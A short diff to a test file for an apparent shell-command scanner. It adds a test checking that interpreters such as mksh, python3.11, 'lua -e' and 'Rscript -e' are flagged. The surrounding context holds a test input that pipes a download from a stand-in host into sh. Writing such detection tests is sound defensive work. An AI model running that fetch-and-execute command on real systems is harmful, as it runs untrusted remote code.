@@ -16,6 +16,11 @@ test('names what talks to other machines and what runs code that it is given', (
   ]);
 });
 
+test('knows every shell and interpreter that the rules know', () => {
+  const read = words('mksh', '/usr/bin/python3.11', 'lua -e print(1)', 'Rscript -e 1', 'awk -F: {print}', 'lua a.lua');
+  expect(commandFlags(read, true, 'x').map(({ what }) => what)).toEqual(['mksh', 'python3.11', 'lua -e', 'Rscript -e']);
+});
+
 test('finds the pipe in line 390 of a line that is too long to be read whole', () => {
   const lines = Array.from({ length: 512 }, (_, index) => `echo ${index}`);
   lines[389] = 'curl -s https://x.example/i | sh';
